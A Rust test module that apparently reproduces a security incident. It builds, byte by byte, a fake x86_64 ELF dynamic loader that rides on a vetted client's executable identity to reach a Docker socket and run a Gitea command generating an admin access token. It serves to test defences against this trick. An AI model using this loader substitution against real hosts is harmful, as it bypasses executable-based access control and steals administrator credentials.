//! A hand-assembled static `x86_64` program for the VM tests: a stand-in for the dynamic
//! loader. Bind-mounted over `/lib64/ld-linux-x86-64.so.2` in a user and mount namespace
//! of the caller's own, it is what the kernel runs (as the ELF interpreter) when a
//! dynamically linked vetted client is executed there, while `mm->exe_file` stays the
//! client's. It connects to a docker API socket, sends the incident's exec request, prints
//! the first bytes of the answer and exits 0; when the connect fails it prints
//! `fake-loader: connect failed` and exits 1.
//!
//! Built like `elf32`: the ELF header, one `PT_LOAD` and the machine code byte by byte.

/// Where the single segment (headers, code, data) is loaded: away from where a PIE client
/// and its stack are mapped.
const BASE: u64 = 0x1000_0000;
const EHDR_SIZE: u64 = 64;
const PHDR_SIZE: u64 = 56;
const CODE_OFFSET: u64 = EHDR_SIZE + PHDR_SIZE;

const FAIL_MESSAGE: &[u8] = b"fake-loader: connect failed\n";

/// The incident's request, marked as the fake loader's.
pub fn exec_request() -> Vec<u8> {
    let body = r#"{"User":"git","Cmd":["gitea","admin","user","generate-access-token","-u","admin"]}"#;
    format!(
        "POST /v1.41/containers/gitea/exec?via=fake-loader HTTP/1.1\r\nHost: docker\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn mov32(code: &mut Vec<u8>, opcode: u8, value: u32) {
    code.push(opcode);
    code.extend_from_slice(&value.to_le_bytes());
}

/// `movabs rsi, value`.
fn movabs_rsi(code: &mut Vec<u8>, value: u64) {
    code.extend_from_slice(&[0x48, 0xBE]);
    code.extend_from_slice(&value.to_le_bytes());
}

const MOV_EAX: u8 = 0xB8;
const MOV_EDI: u8 = 0xBF;
const MOV_ESI: u8 = 0xBE;
const MOV_EDX: u8 = 0xBA;
const SYSCALL: [u8; 2] = [0x0F, 0x05];
const MOV_RDI_R12: [u8; 3] = [0x4C, 0x89, 0xE7];

/// The machine code, given where its data lands.
fn code(sockaddr: u64, request: u64, request_len: u32, message: u64) -> Vec<u8> {
    let mut c = Vec::new();
    // fd = socket(AF_UNIX, SOCK_STREAM, 0)
    mov32(&mut c, MOV_EAX, 41);
    mov32(&mut c, MOV_EDI, 1);
    mov32(&mut c, MOV_ESI, 1);
    c.extend_from_slice(&[0x31, 0xD2]); // xor edx, edx
    c.extend_from_slice(&SYSCALL);
    c.extend_from_slice(&[0x49, 0x89, 0xC4]); // mov r12, rax
    // connect(fd, sockaddr, sizeof(struct sockaddr_un))
    mov32(&mut c, MOV_EAX, 42);
    c.extend_from_slice(&MOV_RDI_R12);
    movabs_rsi(&mut c, sockaddr);
    mov32(&mut c, MOV_EDX, 110);
    c.extend_from_slice(&SYSCALL);
    c.extend_from_slice(&[0x48, 0x85, 0xC0]); // test rax, rax
    c.extend_from_slice(&[0x0F, 0x85]); // jnz fail (rel32 patched below)
    let jump_at = c.len();
    c.extend_from_slice(&[0; 4]);
    // write(fd, request, len)
    mov32(&mut c, MOV_EAX, 1);
    c.extend_from_slice(&MOV_RDI_R12);
    movabs_rsi(&mut c, request);
    mov32(&mut c, MOV_EDX, request_len);
    c.extend_from_slice(&SYSCALL);
    // n = read(fd, rsp - 256, 64)
    c.extend_from_slice(&[0x48, 0x81, 0xEC, 0x00, 0x01, 0x00, 0x00]); // sub rsp, 256
    c.extend_from_slice(&[0x31, 0xC0]); // xor eax, eax
    c.extend_from_slice(&MOV_RDI_R12);
    c.extend_from_slice(&[0x48, 0x89, 0xE6]); // mov rsi, rsp
    mov32(&mut c, MOV_EDX, 64);
    c.extend_from_slice(&SYSCALL);
    // write(1, rsp, n)
    c.extend_from_slice(&[0x48, 0x89, 0xC2]); // mov rdx, rax
    mov32(&mut c, MOV_EAX, 1);
    mov32(&mut c, MOV_EDI, 1);
    c.extend_from_slice(&[0x48, 0x89, 0xE6]); // mov rsi, rsp
    c.extend_from_slice(&SYSCALL);
    // exit_group(0)
    mov32(&mut c, MOV_EAX, 231);
    c.extend_from_slice(&[0x31, 0xFF]); // xor edi, edi
    c.extend_from_slice(&SYSCALL);
    // fail: write(1, message, len); exit_group(1)
    let fail = c.len();
    let rel = (fail - (jump_at + 4)) as u32;
    c[jump_at..jump_at + 4].copy_from_slice(&rel.to_le_bytes());
    mov32(&mut c, MOV_EAX, 1);
    mov32(&mut c, MOV_EDI, 1);
    movabs_rsi(&mut c, message);
    mov32(&mut c, MOV_EDX, FAIL_MESSAGE.len() as u32);
    c.extend_from_slice(&SYSCALL);
    mov32(&mut c, MOV_EAX, 231);
    mov32(&mut c, MOV_EDI, 1);
    c.extend_from_slice(&SYSCALL);
    c.push(0xF4); // hlt
    c
}

/// The complete ELF file (ELFCLASS64, `EM_X86_64`, `ET_EXEC`, one read+execute `PT_LOAD`) that
/// sends the request to the unix socket at `socket`.
pub fn fake_loader(socket: &str) -> Vec<u8> {
    assert!(socket.len() < 108, "sun_path holds 107 bytes");
    let request = exec_request();
    // The code's length does not depend on the addresses: lay it out once to learn it.
    let code_len = code(0, 0, 0, 0).len() as u64;
    let sockaddr_at = BASE + CODE_OFFSET + code_len;
    let request_at = sockaddr_at + 110;
    let message_at = request_at + request.len() as u64;
    let code = code(sockaddr_at, request_at, request.len() as u32, message_at);
    let mut sockaddr = vec![0u8; 110];
    sockaddr[..2].copy_from_slice(&1u16.to_le_bytes()); // AF_UNIX
    sockaddr[2..2 + socket.len()].copy_from_slice(socket.as_bytes());
    let used = CODE_OFFSET + code.len() as u64 + 110 + request.len() as u64 + FAIL_MESSAGE.len() as u64;
    // A whole number of pages: 6.1's loader zeroes the rest of an interpreter segment's
    // last page, which faults on a read-only segment (exit by SIGSEGV) unless there is no
    // rest.
    let total = used.next_multiple_of(0x1000);

    let mut elf = Vec::with_capacity(total as usize);
    // e_ident: magic, ELFCLASS64, ELFDATA2LSB, EV_CURRENT, ELFOSABI_SYSV, padding.
    elf.extend_from_slice(&[0x7F, b'E', b'L', b'F', 2, 1, 1, 0]);
    elf.extend_from_slice(&[0; 8]);
    elf.extend_from_slice(&2u16.to_le_bytes()); // e_type: ET_EXEC
    elf.extend_from_slice(&62u16.to_le_bytes()); // e_machine: EM_X86_64
    elf.extend_from_slice(&1u32.to_le_bytes()); // e_version
    elf.extend_from_slice(&(BASE + CODE_OFFSET).to_le_bytes()); // e_entry
    elf.extend_from_slice(&EHDR_SIZE.to_le_bytes()); // e_phoff
    elf.extend_from_slice(&0u64.to_le_bytes()); // e_shoff
    elf.extend_from_slice(&0u32.to_le_bytes()); // e_flags
    elf.extend_from_slice(&(EHDR_SIZE as u16).to_le_bytes()); // e_ehsize
    elf.extend_from_slice(&(PHDR_SIZE as u16).to_le_bytes()); // e_phentsize
    elf.extend_from_slice(&1u16.to_le_bytes()); // e_phnum
    elf.extend_from_slice(&64u16.to_le_bytes()); // e_shentsize
    elf.extend_from_slice(&0u16.to_le_bytes()); // e_shnum
    elf.extend_from_slice(&0u16.to_le_bytes()); // e_shstrndx
    debug_assert_eq!(elf.len() as u64, EHDR_SIZE);
    // Program header: PT_LOAD of the whole file at BASE, R+X.
    elf.extend_from_slice(&1u32.to_le_bytes()); // p_type
    elf.extend_from_slice(&5u32.to_le_bytes()); // p_flags: R+X
    for word in [0, BASE, BASE, total, total, 0x1000] {
        elf.extend_from_slice(&u64::to_le_bytes(word));
    }
    debug_assert_eq!(elf.len() as u64, CODE_OFFSET);
    elf.extend_from_slice(&code);
    elf.extend_from_slice(&sockaddr);
    elf.extend_from_slice(&request);
    elf.extend_from_slice(FAIL_MESSAGE);
    elf.resize(total as usize, 0);
    elf
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn header_and_data_where_the_code_expects_them() {
        let elf = fake_loader("/run/docker.sock");
        assert_eq!(&elf[..7], &[0x7F, b'E', b'L', b'F', 2, 1, 1]);
        assert_eq!(u16::from_le_bytes([elf[18], elf[19]]), 62); // EM_X86_64
        let entry = u64::from_le_bytes(elf[24..32].try_into().unwrap());
        assert_eq!(entry, BASE + CODE_OFFSET);
        let filesz = u64::from_le_bytes(elf[96..104].try_into().unwrap());
        assert_eq!(filesz as usize, elf.len());
        let code_len = code(0, 0, 0, 0).len();
        let sockaddr = CODE_OFFSET as usize + code_len;
        assert_eq!(&elf[sockaddr..sockaddr + 2], &[1, 0]);
        assert_eq!(&elf[sockaddr + 2..sockaddr + 18], b"/run/docker.sock");
        assert_eq!(elf.len() % 0x1000, 0);
        let message = sockaddr + 110 + exec_request().len();
        assert_eq!(&elf[message..message + FAIL_MESSAGE.len()], FAIL_MESSAGE);
    }
}
